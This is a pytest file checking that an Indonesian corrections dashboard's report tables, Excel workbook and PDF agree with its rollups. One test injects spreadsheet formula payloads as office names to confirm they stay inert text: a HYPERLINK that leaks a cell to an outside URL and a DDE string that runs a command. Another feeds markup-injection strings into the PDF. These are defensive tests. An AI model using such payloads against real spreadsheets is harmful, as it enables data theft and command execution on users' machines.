"""The report's tables, workbook and PDF against the rollups that the pages show."""

from __future__ import annotations

import threading
from io import BytesIO
from typing import Any

import openpyxl
import pandas as pd
import pytest
from django.db import connection
from pypdf import PdfReader

from dasbor import agregasi, indikator, selectors
from dasbor.kinerja import bahan, naskah, pdf, tabel, xlsx
from dasbor.kinerja.naskah import Naskah
from dasbor.kinerja.pesanan import Surat
from dasbor.kinerja.susunan import BUTIR
from dasbor.models import Ringkasan
from dasbor.rekap import DASAR, Dasar
from tests.dasbor.isi_kinerja import isi_januari, naskah_januari
from tests.dunia import JANUARI
from upt.cakupan import SISTEM, terpasang
from upt.models import Kanwil


def _teks_pdf(isi: bytes) -> str:
    return " ".join(" ".join(halaman.extract_text().split()) for halaman in PdfReader(BytesIO(isi)).pages)


def _buku(naskah: Naskah) -> openpyxl.Workbook:
    return openpyxl.load_workbook(BytesIO(xlsx.buat(naskah)))


# Tables -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("dasar", DASAR)
def test_tabel_sama_dengan_rekap_nasional(dunia: Any, dasar: Dasar) -> None:
    n = naskah_januari(dunia, dasar)
    with terpasang(SISTEM):
        rekap = selectors.rekap_wilayah(SISTEM, JANUARI, [k for semua in BUTIR.values() for k in semua])
    for kode, formulir in (("Kanwil", "F01"), ("Mutasi", "F02"), ("Kamtib", "F04"), ("Pangan", "F06")):
        t = n.tabel[kode]
        for kolom in (k.kode for k in t.kolom if k.kode in BUTIR[formulir]):
            resmi = rekap[None].nilai(formulir, kolom, dasar)
            tertulis = t.jumlah[kolom]  # type: ignore[index]
            assert (None if tertulis != tertulis or tertulis is None else tertulis) == (
                None if resmi is None else float(resmi)  # type: ignore[arg-type]
            ), (kode, kolom)


def test_kedua_ukuran_hunian_sama_dengan_indikator(dunia: Any) -> None:
    n = naskah_januari(dunia)
    with terpasang(SISTEM):
        rekap = selectors.rekap_wilayah(SISTEM, JANUARI, ["isi", "kapasitas"])
    for kode in ("hunian", "overkapasitas"):
        nilai = indikator.semua()[kode].hitung(rekap[None], "masuk").nilai
        assert n.fakta.pokok[kode].nilai == pytest.approx(float(nilai))  # type: ignore[arg-type]
        assert n.tabel["Kanwil"].jumlah[kode] == pytest.approx(float(nilai))  # type: ignore[arg-type,index]
    assert n.fakta.pokok["hunian"].nilai == pytest.approx(450 / 480 * 100)


def test_baris_kanwil_dan_yang_belum_melapor(dunia: Any) -> None:
    n = naskah_januari(dunia)
    isi = n.tabel["Kanwil"].isi.set_index("kanwil")
    assert list(isi.index) == ["Riau", "Maluku"]
    assert dict(isi.loc["Riau", ["isi", "kapasitas", "n", "wajib"]]) == {
        "isi": 150,
        "kapasitas": 160,
        "n": 1,
        "wajib": 2,
    }
    assert dict(isi.loc["Maluku", ["isi", "n", "wajib"]]) == {"isi": 300, "n": 2, "wajib": 2}


def test_dasar_terverifikasi_kosong_bukan_nol(dunia: Any) -> None:
    n = naskah_januari(dunia, "sah")
    isi = n.tabel["Kanwil"].isi.set_index("kanwil")
    assert isi.loc["Maluku", "isi"] == 150
    assert isi["isi"].isna()["Riau"]
    assert n.tabel["Kanwil"].baris_teks()[0][1] == "–"
    assert n.fakta.pokok["masuk"].nilai is None
    assert "tidak ada data" in " ".join(n.kalimat)


def test_kelengkapan_dan_kamtib(dunia: Any) -> None:
    n = naskah_januari(dunia)
    jumlah = n.tabel["Kelengkapan"].jumlah
    assert jumlah is not None
    assert (jumlah["wajib"], jumlah["masuk"], jumlah["sah"]) == (16, 12, 1)
    assert jumlah["persen_sah"] == 6.2  # rounded down
    assert n.sementara
    assert n.fakta.kelompok_kamtib == (("Narkoba", 2.0), ("Kekerasan", 1.0))
    kamtib = n.tabel["Kamtib"].jumlah
    assert kamtib is not None
    assert (kamtib["total_kejadian"], kamtib["narkoba"], kamtib["kekerasan"]) == (3, 2, 1)


def test_tren_dua_belas_bulan_dengan_bulan_kosong(dunia: Any) -> None:
    n = naskah_januari(dunia)
    isi = n.tabel["Tren"].isi
    assert (len(isi), isi["nama"].iloc[0], isi["nama"].iloc[-1]) == (12, "Februari 2025", "Januari 2026")
    assert isi["isi"].iloc[:-1].isna().all()
    assert isi["isi"].iloc[-1] == 450


def test_sidik_sumber_berubah_bila_sumbernya_berubah(dunia: Any) -> None:
    isi_januari(dunia)
    sebelum = bahan.baca(JANUARI, "masuk").sidik
    assert bahan.baca(JANUARI, "masuk").sidik == sebelum
    with terpasang(SISTEM):
        Ringkasan.objects.filter(kanwil__slug="riau", formulir_id="F06").update(sidik_sumber="0" * 64)
    assert bahan.baca(JANUARI, "masuk").sidik != sebelum


def test_satu_potret_walau_laporan_masuk_di_tengah_pembacaan(dunia_nyata: Any) -> None:
    isi_januari(dunia_nyata)
    with bahan.potret(SISTEM):
        awal = bahan.baca(JANUARI, "masuk")
        utas = threading.Thread(target=_ubah_dari_utas_lain)
        utas.start()
        utas.join()
        tengah = bahan.baca(JANUARI, "masuk")
    sesudah = bahan.baca(JANUARI, "masuk")
    assert tengah.sidik == awal.sidik
    assert tengah.angka.equals(awal.angka)
    assert sesudah.sidik != awal.sidik


def _ubah_dari_utas_lain() -> None:
    with terpasang(SISTEM):
        Ringkasan.objects.filter(formulir_id="F01").update(sidik_sumber="1" * 64)
    connection.close()


# Workbook -----------------------------------------------------------------------------------------


def test_buku_kerja_berisi_angka_nyata_kepala_beku_dan_saringan(dunia: Any) -> None:
    n = naskah_januari(dunia)
    buku = _buku(n)
    assert tuple(buku.sheetnames) == xlsx.LEMBAR
    lembar = buku["Kanwil"]
    kepala = [sel.value for sel in lembar[4]]
    assert kepala[:5] == [
        "Kanwil",
        "Penghuni (orang)",
        "Kapasitas (orang)",
        "Tingkat hunian (%)",
        "Overkapasitas (%)",
    ]
    assert [sel.value for sel in lembar[5]][:3] == ["Riau", 150, 160]
    assert lembar["B5"].data_type == "n"
    assert (lembar["B5"].number_format, lembar["D5"].number_format) == ("#,##0", "#,##0.0")
    assert lembar["D5"].value == 93.75
    assert [sel.value for sel in lembar[7]][:3] == ["Nasional", 450, 480]
    for nama in xlsx.LEMBAR[:-1]:
        assert buku[nama].freeze_panes == "B5", nama
        assert buku[nama].auto_filter.ref, nama
        assert buku[nama].print_title_rows == "$4:$4", nama
        assert not any(batas.min_row <= 4 for batas in buku[nama].merged_cells.ranges), nama
    assert buku["Kanwil"].auto_filter.ref == "A4:J6"  # the national row is not sorted away


def test_tentang_menyebut_asal_dan_definisi(dunia: Any) -> None:
    n = naskah_januari(dunia)
    buku = _buku(n)
    baris = [[sel.value for sel in b] for b in buku["Tentang"].iter_rows()]
    pasangan = {b[0]: b[1] for b in baris if b[0] and b[1]}
    assert pasangan["Bulan laporan"] == "Januari 2026"
    assert pasangan["Cakupan"] == "12 dari 16 laporan masuk, 1 terverifikasi"
    assert pasangan["Sifat"] == "SEMENTARA"
    assert pasangan["Diminta oleh"] == "Contoh Peninjau (Peninjau Pusat)"
    assert pasangan["Sidik sumber"] == n.bahan.sidik
    definisi = {b[0]: b for b in baris if b[4] in ("ya", "belum")}
    assert definisi["Tingkat hunian"][3].startswith("Penghuni pada akhir bulan dibagi kapasitas")
    assert definisi["Penghuni"][4] == "belum"
    assert buku.properties.title == "Laporan Kinerja Pemasyarakatan Januari 2026"


def test_nama_berbahaya_tetap_teks(dunia: Any) -> None:
    isi_januari(dunia)
    jahat = '=HYPERLINK("http://x?"&A1)'
    with terpasang(SISTEM):
        Kanwil.objects.filter(slug="riau").update(nama_pendek=jahat)
        Kanwil.objects.filter(slug="maluku").update(nama_pendek="+cmd|' /C calc'!A0")
    n = naskah.susun(bahan.baca(JANUARI, "masuk"), Surat(("@SUM(A1)",)), "-2+3")
    buku = _buku(n)
    for lembar in buku:
        for b in lembar.iter_rows():
            assert all(sel.data_type != "f" and sel.hyperlink is None for sel in b)
    assert (buku["Kanwil"]["A5"].value, buku["Kanwil"]["A5"].data_type) == (jahat, "s")
    assert jahat in _teks_pdf(pdf.buat(n))


# PDF ----------------------------------------------------------------------------------------------


def test_pdf_berisi_angka_bahasa_judul_dan_halaman(dunia: Any) -> None:
    n = naskah_januari(dunia)
    isi = pdf.buat(n)
    berkas = PdfReader(BytesIO(isi))
    akar = berkas.trailer["/Root"]
    assert akar["/Lang"] in ("id", "id-ID")
    assert akar["/MarkInfo"]["/Marked"]
    assert "/StructTreeRoot" in akar
    assert berkas.metadata is not None
    assert berkas.metadata.title == "Laporan Kinerja Pemasyarakatan Januari 2026"
    lebar = {(round(float(h.mediabox.width)), round(float(h.mediabox.height))) for h in berkas.pages}
    assert lebar == {(595, 842), (842, 595)}
    teks = _teks_pdf(isi)
    assert f"Halaman {len(berkas.pages)} dari {len(berkas.pages)}" in teks
    for potongan in (
        "KEMENTERIAN IMIGRASI",
        "93,8%",
        "450",
        "Lampiran I",
        "Ditandatangani di luar portal",
        "−6,3%",
    ):
        assert potongan in teks, potongan
    assert n.bahan.sidik in teks.replace(" ", "")


def test_sementara_di_setiap_halaman_sampai_semua_terverifikasi(dunia: Any, settings: Any) -> None:
    settings.MODE_LATIHAN = True
    n = naskah_januari(dunia)
    for halaman in PdfReader(BytesIO(pdf.buat(n))).pages:
        assert "SEMENTARA · DATA LATIHAN" in " ".join(halaman.extract_text().split())
    settings.MODE_LATIHAN = False
    with terpasang(SISTEM):
        Ringkasan.objects.filter(n_wajib__gt=0).update(n_sah=2, n_wajib=2, n_masuk=2)
    lengkap = naskah.susun(bahan.baca(JANUARI, "masuk"), Surat.bawaan(), "Peninjau")
    assert not lengkap.tanda
    assert "SEMENTARA" not in _teks_pdf(pdf.buat(lengkap))


def test_teks_surat_tidak_pernah_menjadi_markah(dunia: Any) -> None:
    isi_januari(dunia)
    surat = Surat(('#panic("x") $x$ *tebal* <b>',), "@alamat \\ #eval", "W.1/#1", "Ambon", 'Kepala "#"')
    teks = _teks_pdf(pdf.buat(naskah.susun(bahan.baca(JANUARI, "masuk"), surat, "#peminta")))
    for potongan in ('#panic("x") $x$ *tebal* <b>', "@alamat \\ #eval", "Nomor: W.1/#1", "#peminta"):
        assert potongan in teks, potongan


def test_bulan_tanpa_satu_laporan_pun_tetap_dapat_disusun(dunia: Any) -> None:
    with terpasang(SISTEM):
        agregasi.proses_kotor()
    n = naskah.susun(bahan.baca(JANUARI, "masuk"), Surat.bawaan(), "Peninjau")
    assert n.tabel["Kanwil"].jumlah_teks()[1] == "–"
    teks = _teks_pdf(pdf.buat(n))
    assert "Tingkat hunian nasional: tidak ada data untuk Januari 2026." in teks
    assert _buku(n)["Kanwil"]["B5"].value is None
    assert {t.kode for t in (buat(n.bahan) for buat in tabel.PEMBUAT)} >= set(xlsx.LEMBAR[1:-1])


def test_kelengkapan_di_atas_kertas_terbagi_dan_tidak_kehilangan_formulir() -> None:
    """Nineteen forms of three columns each would not fit on a page."""
    kode = [f"F{n:02}" for n in range(1, 20)]
    baris = [("Maluku", f, 17, 15, 12) for f in kode] + [("Riau", f, 20, 20, 19) for f in kode]
    ukuran = ("wajib", "masuk", "sah")
    isi = pd.DataFrame(baris, columns=["kanwil", "formulir", *ukuran])
    kolom = (
        tabel.KOLOM_KANWIL,
        tabel.Kolom("formulir", "Formulir", jenis=tabel.TEKS),
        *(tabel.Kolom(k, k) for k in ukuran),
    )
    semua = pdf._kelengkapan(tabel.Tabel("Kelengkapan", "Kelengkapan", kolom, isi))
    assert [k.kode.split("_")[0] for t in semua for k in t.kolom[1:]] == [f for f in kode for _ in ukuran]
    assert all(len(t.kolom) <= 1 + pdf.SEJAJAR * len(ukuran) for t in semua)
    assert semua[0].judul.endswith("F01 sampai F05")
    assert semua[-1].jumlah_teks()[1:4] == ["35", "37", "31"]
